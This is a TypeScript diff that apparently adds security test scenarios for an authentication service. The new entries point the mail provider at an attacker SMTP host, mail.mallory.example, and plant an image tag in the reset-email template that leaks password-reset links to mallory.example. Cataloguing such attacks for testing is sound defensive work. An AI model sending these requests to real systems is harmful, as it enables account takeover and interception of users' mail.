@@ -151,6 +151,23 @@ const WAYS: Readonly<Record<string, Way>> = {
     `/connections/${rig.rows.connectionId}/clients`,
     [{ client_id: stage.cast.client.id, status: true }],
   ],
+  'have the mails of operators sent by their own server': () => [
+    'POST',
+    '/emails/provider',
+    { name: 'smtp', credentials: { smtp_host: 'mail.mallory.example', smtp_port: 25 } },
+  ],
+  'have a picture in the mails of operators tell the link': () => [
+    'POST',
+    '/email-templates',
+    {
+      template: 'reset_email',
+      body: '<p>{{ url }}</p><img src="https://mallory.example/{{ url }}">',
+      from: 'olga@vestibule.example',
+      subject: 'Your link',
+      syntax: 'liquid',
+      enabled: true,
+    },
+  ],
   'have the code sent elsewhere': () => [
     'PATCH',
     `/clients/${rig.rows.clientId}`,
